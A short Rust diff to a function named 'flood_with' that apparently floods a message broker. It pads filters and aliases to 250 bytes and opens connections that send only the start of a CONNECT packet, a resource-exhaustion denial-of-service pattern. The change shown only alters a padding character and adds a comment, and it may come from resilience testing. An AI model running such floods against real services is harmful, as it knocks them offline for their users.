@@ -345,7 +345,8 @@ fn flood_with(addr: SocketAddr, each: u64) -> Result<(u64, u64), AttackError> {
     // 250 bytes each, as many as one may have.
     let filters: Vec<String> = (0..60).map(|number| format!("{number:0>250}")).collect();
     let mut aliases = Vec::new();
-    (1..=32).for_each(|alias| put_alias(&mut aliases, alias, &format!("{alias:0>250}")));
+    // Nobody subscribes to them: what it takes to tell many is not what this asks.
+    (1..=32).for_each(|alias| put_alias(&mut aliases, alias, &format!("{alias:a>250}")));
     let half = [&[0x30, 0x80, 0x80, 0x20][..], &vec![b'x'; 300_000]].concat();
     for number in 0..each {
         // The first bytes of CONNECT, and never the rest.
